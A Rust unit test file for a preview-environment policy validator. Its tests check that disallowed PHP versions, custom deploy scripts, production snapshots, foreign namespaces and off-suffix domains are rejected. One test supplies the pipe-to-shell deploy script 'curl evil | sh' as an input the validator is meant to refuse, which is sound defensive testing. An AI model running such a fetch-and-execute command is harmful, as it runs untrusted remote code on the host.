use std::collections::BTreeMap;

use serde_json::json;

use super::*;
use crate::api::preview_class::PreviewClass;

fn class(name: &str, spec: serde_json::Value, default: bool) -> PreviewClass {
    let annotations = if default { json!({"switchyard.dev/is-default-class": "true"}) } else { json!({}) };
    serde_json::from_value(json!({
        "apiVersion": "switchyard.dev/v1alpha1", "kind": "PreviewClass",
        "metadata": {"name": name, "annotations": annotations},
        "spec": spec,
    }))
    .unwrap()
}

fn strict() -> serde_json::Value {
    json!({
        "forge": {"organization": "acme", "serverId": 1, "tokenSecretRef": {"namespace": "ops", "name": "forge", "key": "token"}},
        "namespaces": ["team-a"],
        "site": {"phpVersions": ["php83", "php84"], "webDirectory": "/web"},
        "deploy": {"script": "cd $FORGE_SITE_PATH && git pull"},
        "database": {"snapshots": ["shop_snapshot"], "strategies": ["clone", "empty"]},
        "redis": {"pool": "redis"},
        "domain": {"template": "pr-{number}.team-a.example.com", "allowedSuffixes": [".example.com"]},
        "limits": {"defaultTtl": "24h", "maxTtl": "72h"}
    })
}

fn env(extra: serde_json::Value) -> PreviewEnvironmentSpec {
    let mut spec = json!({"repository": "acme/shop", "pullRequest": 1, "branch": "b", "project": "shop"});
    spec.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
    serde_json::from_value(spec).unwrap()
}

fn check(extra: serde_json::Value) -> Result<PreviewEnvironmentSpec, &'static str> {
    let c = class("strict", strict(), false);
    effective_spec("strict", &c.spec, "team-a", &BTreeMap::new(), &env(extra)).map_err(|v| v.reason)
}

#[test]
fn each_rule_of_the_class_has_its_own_reason() {
    assert!(check(json!({})).is_ok());
    assert_eq!(check(json!({"site": {"phpVersion": "php74"}})), Err("PhpVersionNotAllowed"));
    assert_eq!(check(json!({"site": {"isolated": false}})), Err("IsolationRequired"));
    assert_eq!(check(json!({"deploy": {"script": "curl evil | sh"}})), Err("CustomScriptNotAllowed"));
    assert_eq!(
        check(json!({"database": {"snapshot": "prod_customers", "strategy": "dump"}})),
        Err("SnapshotNotAllowed")
    );
    assert_eq!(
        check(json!({"database": {"snapshot": "shop_snapshot", "strategy": "dump"}})),
        Err("StrategyNotAllowed")
    );
    assert_eq!(check(json!({"redis": {"pool": "other"}})), Err("RedisPoolNotAllowed"));
    assert_eq!(check(json!({"ttl": "100h"})), Err("TtlTooLong"));
    let c = class("strict", strict(), false);
    let other = effective_spec("strict", &c.spec, "team-b", &BTreeMap::new(), &env(json!({})));
    assert_eq!(other.map_err(|v| v.reason), Err("ClassNotAllowed"));
}

#[test]
fn messages_name_the_field() {
    let c = class("strict", strict(), false);
    let v =
        effective_spec("strict", &c.spec, "team-a", &BTreeMap::new(), &env(json!({"site": {"phpVersion": "php74"}})))
            .unwrap_err();
    assert!(v.message.starts_with("spec.site.phpVersion:"), "{}", v.message);
    let v = effective_spec("strict", &c.spec, "team-b", &BTreeMap::new(), &env(json!({}))).unwrap_err();
    assert!(v.message.starts_with("spec.className:") && v.message.contains("team-b"), "{}", v.message);
}

#[test]
fn the_class_fills_what_the_tenant_left_out() {
    let spec = check(json!({"redis": {}})).unwrap();
    assert_eq!(spec.site.web_directory.as_deref(), Some("/web"));
    assert_eq!(spec.deploy.script.as_deref(), Some("cd $FORGE_SITE_PATH && git pull"));
    assert_eq!(spec.redis.and_then(|r| r.pool).as_deref(), Some("redis"));
    assert_eq!(spec.domain_template.as_deref(), Some("pr-{number}.team-a.example.com"));
    assert_eq!(spec.ttl.as_deref(), Some("24h"));
    // The tenant's own choices within the rules stay.
    let spec = check(json!({"ttl": "48h", "site": {"phpVersion": "php83", "webDirectory": "/"}})).unwrap();
    assert_eq!((spec.ttl.as_deref(), spec.site.web_directory.as_deref()), (Some("48h"), Some("/")));
}

#[test]
fn a_custom_script_passes_only_where_allowed() {
    let mut spec = strict();
    spec["deploy"]["allowCustomScript"] = json!(true);
    let c = class("open", spec, false);
    let out = effective_spec("open", &c.spec, "team-a", &BTreeMap::new(), &env(json!({"deploy": {"script": "mine"}})));
    assert_eq!(out.unwrap().deploy.script.as_deref(), Some("mine"));
}

#[test]
fn namespaces_are_chosen_by_name_or_selector() {
    let labels = BTreeMap::from([("team".to_string(), "b".to_string())]);
    let mut spec = strict();
    spec["namespaceSelector"] = json!({"matchExpressions": [{"key": "team", "operator": "In", "values": ["b", "c"]}]});
    let c = class("x", spec, false);
    assert!(namespace_allowed(&c.spec, "team-a", &BTreeMap::new()));
    assert!(namespace_allowed(&c.spec, "anything", &labels));
    assert!(!namespace_allowed(&c.spec, "anything", &BTreeMap::new()));
    let mut spec = strict();
    spec["namespaces"] = json!([]);
    assert!(!namespace_allowed(&class("none", spec.clone(), false).spec, "team-a", &labels), "neither: nobody");
    spec["namespaceSelector"] = json!({});
    assert!(namespace_allowed(&class("all", spec, false).spec, "team-a", &BTreeMap::new()), "{{}}: everybody");
}

#[test]
fn the_default_class_is_the_single_annotated_one() {
    let (a, b) = (class("a", strict(), true), class("b", strict(), false));
    let classes = vec![a.clone(), b.clone()];
    assert_eq!(select(None, None, &classes).map(|c| c.metadata.name.clone()), Ok(Some("a".into())));
    assert_eq!(select(None, Some("b"), &classes).map(|c| c.metadata.name.clone()), Ok(Some("b".into())));
    // What was recorded at the first reconcile wins over whatever is named or default now.
    assert_eq!(select(Some("b"), None, &classes).map(|c| c.metadata.name.clone()), Ok(Some("b".into())));
    assert_eq!(select(None, Some("c"), &classes).err().map(|v| v.reason), Some("ClassNotFound"));
    assert_eq!(select(None, None, std::slice::from_ref(&b)).err().map(|v| v.reason), Some("NoDefaultClass"));
    let twice = vec![a, class("c", strict(), true), b];
    let err = select(None, None, &twice).unwrap_err();
    assert_eq!(err.reason, "MultipleDefaultClasses");
    assert!(err.message.contains("a, c"), "{}", err.message);
}

#[test]
fn domains_must_end_with_an_allowed_suffix_at_a_label_boundary() {
    let c = class("strict", strict(), false);
    assert!(domain_allowed("strict", &c.spec, "pr-1.team-a.example.com").is_ok());
    assert!(domain_allowed("strict", &c.spec, "example.com").is_ok());
    assert_eq!(domain_allowed("strict", &c.spec, "shop.evil.com").map_err(|v| v.reason), Err("DomainNotAllowed"));
    assert_eq!(domain_allowed("strict", &c.spec, "badexample.com").map_err(|v| v.reason), Err("DomainNotAllowed"));
}
